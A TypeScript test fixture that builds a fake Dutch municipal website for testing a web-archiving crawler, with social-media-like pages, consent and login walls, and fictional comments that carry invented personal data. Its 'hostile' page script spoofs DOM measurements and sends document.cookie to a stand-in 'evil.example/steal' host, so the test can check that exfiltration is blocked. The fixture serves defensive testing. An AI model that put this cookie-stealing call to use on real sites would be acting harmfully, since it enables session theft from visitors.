// The pages of the fake website, deterministic and in Dutch: municipal news pages, a LinkedIn-like
// post with comments loaded by a script, a TikTok-like video page with comments, a login wall, two
// consent walls, a download and a page that tries to leave the domain. `day` 2 is the "next day".
// Third-party comments carry personal data the way people write it.

export type Day = 1 | 2;

export interface PageDef {
  path: string;
  /** What the page is, for tests and the README. */
  role: 'news' | 'linkedin-post' | 'tiktok-video' | 'login-wall' | 'consent-wall' | 'download' | 'leaves-domain' | 'hostile';
  /** The HTML on a day, or null when the page is gone (404). */
  html(day: Day): string | null;
  /** How the page changes on day 2. */
  nextDay: 'unchanged' | 'changed' | 'gone';
  /** A redirect instead of a page (LinkedIn sends logged-out visitors of a private post to its authwall). */
  redirect?: string;
}

const esc = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

// Hosts outside the site that its pages refer to; the capture must never fetch them.
export const THIRD_PARTY = {
  analytics: 'https://analytics.example.net/collect.js',
  fonts: 'https://fonts.example.com/css2?family=Source+Sans',
  video: 'https://www.video.example.com/embed/raadsvergadering',
  elsewhere: 'https://www.example.org/elders',
};

function municipal(opts: { title: string; published: string; lead: string; body: string[]; image?: string; lazyImage?: string; extraHead?: string; extraBody?: string }): string {
  return `<!DOCTYPE html>
<html lang="nl">
<head>
<meta charset="utf-8">
<title>${esc(opts.title)} | Gemeente Voorbeeldstad</title>
<meta name="description" content="${esc(opts.lead)}">
<meta property="article:published_time" content="${opts.published}">
<link rel="stylesheet" href="/static/site.css">
<link rel="stylesheet" href="${THIRD_PARTY.fonts}">
<script src="${THIRD_PARTY.analytics}" async></script>
${opts.extraHead ?? ''}
</head>
<body>
<header class="site-header">
  <a class="logo" href="/">Gemeente Voorbeeldstad</a>
  <form class="mijn-login" action="/mijn/inloggen" method="post">
    <label>Mijn Voorbeeldstad <input type="text" name="gebruiker" placeholder="Gebruikersnaam"></label>
    <input type="password" name="wachtwoord" placeholder="Wachtwoord">
    <button type="submit">Inloggen</button>
  </form>
</header>
<main>
<article>
<h1>${esc(opts.title)}</h1>
<p class="datum">Gepubliceerd op <time datetime="${opts.published}">${opts.published.slice(0, 10)}</time></p>
<p class="lead">${esc(opts.lead)}</p>
${opts.image ? `<figure><img src="${opts.image}" width="640" height="360" alt="Foto bij het bericht"></figure>` : ''}
${opts.body.map((p) => `<p>${esc(p)}</p>`).join('\n')}
<p class="contact">Vragen? Bel 14 0555 of mail naar info@voorbeeldstad.nl.</p>
<div class="spacer"></div>
${opts.lazyImage ? `<figure><img src="${opts.lazyImage}" loading="lazy" width="640" height="360" alt="Kaart"></figure>` : ''}
</article>
</main>
<div id="leestijd"></div>
<script src="/static/site.js"></script>
${opts.extraBody ?? ''}
<footer>Gemeente Voorbeeldstad, Raadhuisplein 1, 9999 ZZ Voorbeeldstad</footer>
</body>
</html>
`;
}

/** A small cookie bar at the bottom that leaves the page readable (not a wall). */
const COOKIE_BAR = `<div id="CybotCookiebotDialog" style="position:fixed;left:0;right:0;bottom:0;height:56px;background:#223;color:#fff;padding:8px">
Deze website gebruikt alleen functionele cookies. <button>Oké</button></div>`;

/** A full-screen consent dialog in the shape OneTrust renders it. */
const ONETRUST_WALL = `<div id="onetrust-consent-sdk">
<div class="onetrust-pc-dark-filter" style="position:fixed;inset:0;background:rgba(0,0,0,.6);z-index:1000"></div>
<div id="onetrust-banner-sdk" role="dialog" aria-modal="true" aria-label="Cookies" style="position:fixed;left:10%;right:10%;top:15%;bottom:15%;background:#fff;z-index:1001;padding:24px">
<h2>Wij vragen uw toestemming</h2><p>Wij en onze partners gebruiken cookies om de website te verbeteren.</p>
<button id="onetrust-accept-btn-handler">Alles accepteren</button> <button>Instellingen</button></div></div>`;

/** A home-made consent layer: no known framework, but it covers the page and speaks of cookies. */
const OWN_WALL = `<div class="cookiemuur" style="position:fixed;inset:0;background:#fff;z-index:50;padding:40px">
<h2>Cookies op voorbeeldstad.nl</h2><p>Kies eerst of u cookies accepteert voordat u verder leest.</p><button>Akkoord</button></div>`;

interface LinkedinComment {
  author: string;
  headline: string;
  text: string;
}

/**
 * A public LinkedIn post page: the post, and its comments either in the HTML or loaded by a script
 * from the comment API (as LinkedIn's own pages do after the first paint).
 */
function linkedinPost(opts: { id: string; author: string; authorName: string; text: string; published: string; image?: string; comments: 'api' | LinkedinComment[] }): string {
  const ld = {
    '@context': 'http://schema.org',
    '@type': 'SocialMediaPosting',
    datePublished: opts.published,
    author: { '@type': 'Organization', name: opts.authorName, url: `/company/${opts.author}` },
    articleBody: opts.text,
  };
  const comment = (c: LinkedinComment) => `<li><strong>${esc(c.author)}</strong><div class="headline">${esc(c.headline)}</div><p>${esc(c.text)}</p></li>`;
  return `<!DOCTYPE html>
<html lang="nl">
<head>
<meta charset="utf-8">
<title>${esc(opts.authorName)} op LinkedIn: ${esc(opts.text.slice(0, 60))}</title>
<meta property="og:description" content="${esc(opts.text.slice(0, 150))}">
<script type="application/ld+json">${JSON.stringify(ld)}</script>
<link rel="stylesheet" href="/static/post.css">
</head>
<body>
<main class="main-feed-activity-card" data-post="${opts.id}">
  <header class="actor"><img src="/media/logo-${opts.author}.png" width="48" height="48" alt=""> <strong>${esc(opts.authorName)}</strong></header>
  <p class="attributed-text-segment-list__content">${esc(opts.text)}</p>
  ${opts.image ? `<img class="post-image" src="${opts.image}" width="552" height="310" alt="">` : ''}
  <section class="comments" aria-label="Opmerkingen"><h2>Opmerkingen</h2><ol id="comment-list">${opts.comments === 'api' ? '' : opts.comments.map(comment).join('')}</ol></section>
</main>
${opts.comments === 'api' ? '<script src="/static/post.js"></script>' : ''}
</body>
</html>
`;
}

function tiktokVideo(opts: { id: string; caption: string; uploaded: string; comments: { user: string; text: string }[]; loginModal?: boolean }): string {
  const ld = { '@context': 'https://schema.org', '@type': 'VideoObject', name: opts.caption.slice(0, 60), uploadDate: opts.uploaded, thumbnailUrl: `/media/tiktok-${opts.id}.jpg` };
  return `<!DOCTYPE html>
<html lang="nl">
<head>
<meta charset="utf-8">
<title>${esc(opts.caption.slice(0, 60))} | TikTok</title>
<script type="application/ld+json">${JSON.stringify(ld)}</script>
<link rel="stylesheet" href="/static/video.css">
</head>
<body>
<div class="video-detail">
  <img class="poster" src="/media/tiktok-${opts.id}.jpg" width="360" height="640" alt="">
  <div class="side">
    <h1 data-e2e="browse-username">gemeentevoorbeeldstad</h1>
    <div data-e2e="browse-video-desc">${esc(opts.caption)}</div>
    <div data-e2e="comment-list">
${opts.comments.map((c) => `      <div class="comment"><span data-e2e="comment-username-1">${esc(c.user)}</span><p data-e2e="comment-level-1">${esc(c.text)}</p></div>`).join('\n')}
    </div>
  </div>
</div>
<script src="/static/video.js"></script>
${opts.loginModal ? '<script src="/static/login-modal.js"></script>' : ''}
</body>
</html>
`;
}

const LOGIN_PAGE = `<!DOCTYPE html>
<html lang="nl">
<head><meta charset="utf-8"><title>Aanmelden | LinkedIn</title><link rel="stylesheet" href="/static/post.css"></head>
<body>
<main class="authwall">
<h1>Meld je aan om meer te bekijken</h1>
<form class="authwall-join-form" action="/uas/login-submit" method="post">
<label>E-mailadres of telefoonnummer <input type="text" name="session_key"></label>
<label>Wachtwoord <input type="password" name="session_password"></label>
<button type="submit">Aanmelden</button>
</form>
</main>
</body>
</html>
`;

export const NOT_FOUND_PAGE = `<!DOCTYPE html>
<html lang="nl"><head><meta charset="utf-8"><title>Pagina niet gevonden</title></head>
<body><h1>Pagina niet gevonden</h1><p>De pagina die u zoekt bestaat niet (meer).</p></body></html>
`;

/** A LinkedIn-like post of the municipality with its comments in the page, for benchmarks (`/synthetiek/<n>`). */
export function syntheticPost(n: number): string {
  const names = ['Jan de Vries', 'Fatima El Amrani', 'Pieter Bakker', 'Anouk Smit', 'Henk Verbeek', 'Sanne Jansen'];
  return linkedinPost({
    id: String(7_000_000_000_000_000_000n + BigInt(n)),
    author: LINKEDIN_HANDLE,
    authorName: 'Gemeente Voorbeeldstad',
    text: `Bericht ${n}: de gemeente informeert u over werkzaamheden in wijk ${(n % 12) + 1}. Lees meer op onze website.`,
    published: new Date(Date.UTC(2026, 0, 1) + n * 3_600_000).toISOString(),
    image: '/media/stationsplein.jpg',
    comments: names.slice(0, (n % 5) + 1).map((author, i) => ({ author, headline: 'Inwoner', text: `Reactie ${i + 1} op bericht ${n}: dank voor de informatie.` })),
  });
}

export const SYNTHETIC_PREFIX = '/synthetiek/';
/** What a synthetic post loads besides itself: its style, the author's logo and the photo. */
export const SYNTHETIC_ASSETS = ['/static/post.css', '/media/logo-gemeente-voorbeeldstad.png', '/media/stationsplein.jpg'];

export const LINKEDIN_POST_ID = '7191234567890123456';
export const TIKTOK_VIDEO_ID = '7351234567890123456';
/** The registered handle (LinkedIn vanity name) of the municipality. */
export const LINKEDIN_HANDLE = 'gemeente-voorbeeldstad';

/** Comments of the LinkedIn-like post as its comment API serves them. */
export function linkedinComments(day: Day): { author: string; headline: string; text: string }[] {
  const first = [
    { author: 'Jan de Vries', headline: 'Ondernemer in Voorbeeldstad', text: 'Eindelijk! Mijn winkel aan de Stationsstraat 12 is wel slecht bereikbaar tijdens de werkzaamheden. Bel me gerust: 06-12345678.' },
    { author: 'Fatima El Amrani', headline: 'Verpleegkundige', text: 'Fijn dat er aan de fietsenstalling gedacht is. Ik werk in ploegendienst en kom vaak om 23:00 aan.' },
    { author: 'Gemeente Voorbeeldstad', headline: '', text: 'Dank voor uw reactie, meneer De Vries. Onze omgevingsmanager neemt contact met u op.' },
  ];
  if (day === 1) return first;
  return [...first, { author: 'Pieter Bakker', headline: 'Student', text: 'Komt er ook een oplaadpunt? Mail mij op p.bakker@example.nl als er nieuws is.' }];
}

export const STATIC: Record<string, { type: string; body: string }> = {
  '/static/site.css': {
    type: 'text/css',
    body: `body{font-family:"DejaVu Sans",sans-serif;margin:0;color:#222}
.site-header{display:flex;justify-content:space-between;align-items:center;background:#0b4f8a;color:#fff;padding:12px 24px}
.site-header a{color:#fff;font-weight:bold}.mijn-login input{width:110px}
main{max-width:760px;margin:0 auto;padding:16px}h1{color:#0b4f8a}.spacer{height:1400px}
footer{background:#eee;padding:16px;margin-bottom:64px}
`,
  },
  '/static/site.js': { type: 'text/javascript', body: `document.getElementById('leestijd').textContent = 'Leestijd: ' + Math.max(1, Math.round(document.querySelector('article').innerText.split(/\\s+/).length / 200)) + ' minuten';\n` },
  '/static/post.css': {
    type: 'text/css',
    body: `body{font-family:"DejaVu Sans",sans-serif;background:#f3f2ef;margin:0}main{max-width:560px;margin:24px auto;background:#fff;padding:16px;border-radius:8px}
.comments li{list-style:none;border-top:1px solid #ddd;padding:8px 0}.comments .headline{color:#666;font-size:12px}
`,
  },
  '/static/post.js': {
    type: 'text/javascript',
    body: `(function () {
  var id = document.querySelector('main').getAttribute('data-post');
  fetch('/voyager/api/comments?post=' + encodeURIComponent(id), { headers: { accept: 'application/json' } })
    .then(function (r) { return r.json(); })
    .then(function (data) {
      var list = document.getElementById('comment-list');
      data.elements.forEach(function (c) {
        var li = document.createElement('li');
        var who = document.createElement('strong'); who.textContent = c.author;
        var head = document.createElement('div'); head.className = 'headline'; head.textContent = c.headline;
        var text = document.createElement('p'); text.textContent = c.text;
        li.appendChild(who); li.appendChild(head); li.appendChild(text);
        list.appendChild(li);
      });
    });
})();
`,
  },
  '/static/video.css': {
    type: 'text/css',
    body: `body{font-family:"DejaVu Sans",sans-serif;margin:0;background:#fff}.video-detail{display:flex;gap:24px;padding:24px}.poster{background:#000}
.comment{border-bottom:1px solid #eee;padding:6px 0}[data-e2e="comment-username-1"]{font-weight:bold}
`,
  },
  // The video page reports the view to the platform; the capture sends no data, so this is blocked.
  '/static/video.js': { type: 'text/javascript', body: `fetch('/api/v1/report/view', { method: 'POST', body: JSON.stringify({ item: 'view' }) }).catch(function () {});\n` },
  '/static/login-modal.js': {
    type: 'text/javascript',
    body: `(function () {
  var m = document.createElement('div');
  m.setAttribute('data-e2e', 'login-modal'); m.setAttribute('role', 'dialog'); m.setAttribute('aria-modal', 'true');
  m.style.cssText = 'position:fixed;inset:0;background:rgba(0,0,0,.7);display:flex;align-items:center;justify-content:center';
  m.innerHTML = '<div style="background:#fff;padding:32px;width:360px"><h2>Log in bij TikTok</h2><input type="text" placeholder="E-mail of gebruikersnaam"><input type="password" placeholder="Wachtwoord"><button>Inloggen</button></div>';
  document.body.appendChild(m);
})();
`,
  },
  // A page that lies to scripts about itself and tries every way out: the capture must read the
  // real text, and nothing may leave the domain or start a download.
  '/static/hostile.js': {
    type: 'text/javascript',
    body: `(function () {
  Object.defineProperty(HTMLElement.prototype, 'innerText', { get: function () { return 'Niets te zien.'; } });
  Element.prototype.getBoundingClientRect = function () { return { x: 0, y: 0, width: 0, height: 0, top: 0, left: 0, right: 0, bottom: 0 }; };
  window.scrollTo = function () {};
  try { window.open('/nieuws/2026/04/koningsdag-2026'); } catch (e) {}
  fetch('https://evil.example/steal?c=' + encodeURIComponent(document.cookie), { method: 'POST', mode: 'no-cors' }).catch(function () {});
  try { new WebSocket('ws://' + location.host + '/socket'); } catch (e) {}
  navigator.sendBeacon('/api/v1/beacon', 'x');
  var a = document.createElement('a'); a.href = '/documenten/raadsbesluit-2026-14.pdf'; a.download = 'besluit.pdf'; document.body.appendChild(a); a.click();
  setTimeout(function () { location.href = '/documenten/raadsbesluit-2026-14.pdf'; }, 10);
})();
`,
  },
  '/static/leave.js': { type: 'text/javascript', body: `location.replace(${JSON.stringify(THIRD_PARTY.elsewhere)});\n` },
};

export const PAGES: PageDef[] = [
  {
    path: '/nieuws/2026/04/werkzaamheden-stationsplein',
    role: 'news',
    nextDay: 'unchanged',
    html: () =>
      municipal({
        title: 'Werkzaamheden Stationsplein starten op 4 mei',
        published: '2026-04-14T09:00:00+02:00',
        lead: 'Vanaf maandag 4 mei wordt het Stationsplein opnieuw ingericht. De werkzaamheden duren tot de zomer.',
        body: [
          'Wethouder Marieke Jansen: "Met een nieuw plein en een grotere fietsenstalling maken we het station beter bereikbaar."',
          'Tijdens de werkzaamheden is de busroute omgeleid via de Kerkstraat. De omleiding staat op de kaart hieronder.',
        ],
        image: '/media/stationsplein.jpg',
        lazyImage: '/media/omleiding-kaart.png',
        extraBody: COOKIE_BAR,
      }),
  },
  {
    path: '/nieuws/2026/04/koningsdag-2026',
    role: 'news',
    nextDay: 'changed',
    html: (day) =>
      municipal({
        title: 'Koningsdag 2026 in Voorbeeldstad',
        published: '2026-04-20T10:30:00+02:00',
        lead: 'Op maandag 27 april viert Voorbeeldstad Koningsdag met een vrijmarkt en muziek op de Markt.',
        body: [
          'De vrijmarkt begint om 07:00 uur. Plaatsen zijn niet te reserveren.',
          ...(day === 2 ? ['Update 27 april: door de harde wind gaat het podium op de Markt niet door. De vrijmarkt gaat wel door.'] : []),
          'Bekijk de uitzending van de raadsvergadering over het programma hieronder.',
        ],
        extraBody: `<iframe src="${THIRD_PARTY.video}" width="560" height="315" title="Raadsvergadering"></iframe>`,
      }),
  },
  {
    path: '/nieuws/2026/03/afvalinzameling-feestdagen',
    role: 'news',
    nextDay: 'gone',
    html: (day) =>
      day === 2
        ? null
        : municipal({
            title: 'Afvalinzameling rond de feestdagen',
            published: '2026-03-30T08:00:00+02:00',
            lead: 'Op Tweede Paasdag wordt het afval een dag later opgehaald.',
            body: ['Zet uw container op dinsdag 7 april voor 07:30 uur aan de weg.'],
          }),
  },
  {
    path: `/posts/gemeente-voorbeeldstad_stationsplein-activity-${LINKEDIN_POST_ID}`,
    role: 'linkedin-post',
    nextDay: 'changed',
    html: () =>
      linkedinPost({
        id: LINKEDIN_POST_ID,
        author: LINKEDIN_HANDLE,
        authorName: 'Gemeente Voorbeeldstad',
        text: 'Vanaf 4 mei richten we het Stationsplein opnieuw in. Meer ruimte voor fietsers en voetgangers, en een stalling voor 1.200 fietsen. #voorbeeldstad #stationsplein',
        published: '2026-04-14T09:15:00.000Z',
        image: '/media/stationsplein.jpg',
        comments: 'api',
      }),
  },
  {
    path: '/posts/gemeente-voorbeeldstad_koningsdag-activity-7192234567890123456',
    role: 'linkedin-post',
    nextDay: 'unchanged',
    html: () =>
      linkedinPost({
        id: '7192234567890123456',
        author: LINKEDIN_HANDLE,
        authorName: 'Gemeente Voorbeeldstad',
        text: 'Koningsdag in Voorbeeldstad: vrijmarkt vanaf 07:00 uur, muziek op de Markt. Tot maandag! 🧡',
        published: '2026-04-21T07:00:00.000Z',
        comments: [
          { author: 'Anouk Smit', headline: 'Eigenaar Café De Markt', text: 'Wij zijn er ook! Terras open vanaf 10 uur.' },
          { author: 'Henk Verbeek', headline: 'Gepensioneerd', text: 'Vorig jaar was er geen invalidentoilet bij het podium. Ik zit sinds mijn herseninfarct in een rolstoel, graag aandacht daarvoor.' },
        ],
      }),
  },
  {
    path: '/posts/gemeente-voorbeeldstad_afvalkalender-activity-7188234567890123456',
    role: 'linkedin-post',
    nextDay: 'gone',
    html: (day) =>
      day === 2
        ? null
        : linkedinPost({
            id: '7188234567890123456',
            author: LINKEDIN_HANDLE,
            authorName: 'Gemeente Voorbeeldstad',
            text: 'De afvalkalender voor 2026 staat online. Tip: zet de ophaaldagen in je agenda.',
            published: '2026-03-02T08:30:00.000Z',
            comments: [{ author: 'Sven Kramer', headline: 'Student', text: 'Kan de papiercontainer ook vaker geleegd worden in de Lindelaan?' }],
          }),
  },
  {
    path: '/posts/veiligheidsregio-voorbeeld_stormwaarschuwing-activity-7193234567890123456',
    role: 'linkedin-post',
    nextDay: 'unchanged',
    html: () =>
      linkedinPost({
        id: '7193234567890123456',
        author: 'veiligheidsregio-voorbeeld',
        authorName: 'Veiligheidsregio Voorbeeld',
        text: 'Code oranje: zware windstoten verwacht vanavond. Blijf binnen en zet losse spullen vast.',
        published: '2026-02-18T15:00:00.000Z',
        comments: [
          { author: 'Gemeente Voorbeeldstad', headline: 'Overheid', text: 'Ook in Voorbeeldstad zijn de parken vanavond gesloten. Meld schade via 14 0555.' },
          { author: 'Marco Visser', headline: 'Zzp-er', text: 'Er ligt een boom op de Dorpsstraat bij nummer 8, mijn auto (12-KLB-3) staat eronder.' },
        ],
      }),
  },
  {
    path: `/@gemeentevoorbeeldstad/video/${TIKTOK_VIDEO_ID}`,
    role: 'tiktok-video',
    nextDay: 'unchanged',
    html: () =>
      tiktokVideo({
        id: TIKTOK_VIDEO_ID,
        caption: 'Zo ziet het nieuwe Stationsplein eruit 🚲 #voorbeeldstad #gemeente',
        uploaded: '2026-04-15T16:00:00Z',
        comments: [
          { user: 'sanne_vbs', text: 'Mijn oma (82) woont daar, met haar rollator kan ze nu eindelijk veilig oversteken ❤️' },
          { user: 'kevin.de.boer', text: 'En wanneer komt de rest van de stad? Ik woon op de Lindelaan 14, 1234 AB, daar is het een ramp.' },
          { user: 'gemeentevoorbeeldstad', text: 'Dank je Kevin! We hebben je melding doorgegeven.' },
        ],
      }),
  },
  {
    path: '/posts/gemeente-voorbeeldstad_besloten-activity-7190000000000000001',
    role: 'login-wall',
    nextDay: 'unchanged',
    redirect: '/authwall?trk=public_post&sessionRedirect=%2Fposts%2Fgemeente-voorbeeldstad_besloten-activity-7190000000000000001',
    html: () => null,
  },
  { path: '/authwall', role: 'login-wall', nextDay: 'unchanged', html: () => LOGIN_PAGE },
  {
    path: '/nieuws/2026/05/bewonersavond-centrum',
    role: 'consent-wall',
    nextDay: 'unchanged',
    html: () =>
      municipal({
        title: 'Bewonersavond centrum',
        published: '2026-05-02T12:00:00+02:00',
        lead: 'Op 12 mei praten we met bewoners over het nieuwe parkeerbeleid.',
        body: ['De avond begint om 19:30 uur in het stadhuis.'],
        extraBody: ONETRUST_WALL,
      }),
  },
  {
    path: '/nieuws/2026/05/inspraak-parkeerbeleid',
    role: 'consent-wall',
    nextDay: 'unchanged',
    html: () =>
      municipal({
        title: 'Inspraak parkeerbeleid',
        published: '2026-05-03T12:00:00+02:00',
        lead: 'Tot 1 juni kunt u reageren op het ontwerp-parkeerbeleid.',
        body: ['Reacties kunt u sturen naar de gemeenteraad.'],
        extraBody: OWN_WALL,
      }),
  },
  {
    path: '/@gemeentevoorbeeldstad/video/7359999999999999999',
    role: 'login-wall',
    nextDay: 'unchanged',
    html: () =>
      tiktokVideo({ id: '7359999999999999999', caption: 'Achter de schermen bij de raad', uploaded: '2026-04-30T12:00:00Z', comments: [], loginModal: true }),
  },
  {
    path: '/nieuws/2026/05/verhuisd',
    role: 'leaves-domain',
    nextDay: 'unchanged',
    html: () =>
      municipal({
        title: 'Dit bericht is verhuisd',
        published: '2026-05-04T12:00:00+02:00',
        lead: 'Dit bericht staat nu op de website van de veiligheidsregio.',
        body: ['U wordt doorgestuurd.'],
        extraBody: '<script src="/static/leave.js"></script>',
      }),
  },
  { path: '/documenten/raadsbesluit-2026-14.pdf', role: 'download', nextDay: 'unchanged', html: () => null },
  {
    path: '/nieuws/2026/05/verstoppertje',
    role: 'hostile',
    nextDay: 'unchanged',
    html: () =>
      municipal({
        title: 'Bibliotheek opent op 1 juni',
        published: '2026-05-05T12:00:00+02:00',
        lead: 'Het echte nieuws: de nieuwe bibliotheek aan de Markt gaat op 1 juni open.',
        body: ['De opening is om 10:00 uur.'],
        extraBody: '<script src="/static/hostile.js"></script>',
      }),
  },
];

const paths = (role: PageDef['role']) => PAGES.filter((p) => p.role === role).map((p) => p.path);

/** The LinkedIn-like posts: the crawler contract's account (handle LINKEDIN_HANDLE) lists these. */
export const LINKEDIN_PATHS = paths('linkedin-post');
/** The municipality's news pages: a `web` account lists these. */
export const NEWS_PATHS = paths('news');

/** Pages that must not be archived, with the wall (or reason) the capture must name. */
export const REFUSED_PATHS: Record<string, string> = {
  '/posts/gemeente-voorbeeldstad_besloten-activity-7190000000000000001': 'login-wall',
  '/nieuws/2026/05/bewonersavond-centrum': 'consent-wall',
  '/nieuws/2026/05/inspraak-parkeerbeleid': 'consent-wall',
  '/@gemeentevoorbeeldstad/video/7359999999999999999': 'login-wall',
  '/documenten/raadsbesluit-2026-14.pdf': 'not-a-page',
};

/** Paths whose page is gone on day 2. */
export const GONE_NEXT_DAY = PAGES.filter((p) => p.nextDay === 'gone').map((p) => p.path);
/** Paths whose page shows something else on day 2. */
export const CHANGED_NEXT_DAY = PAGES.filter((p) => p.nextDay === 'changed').map((p) => p.path);
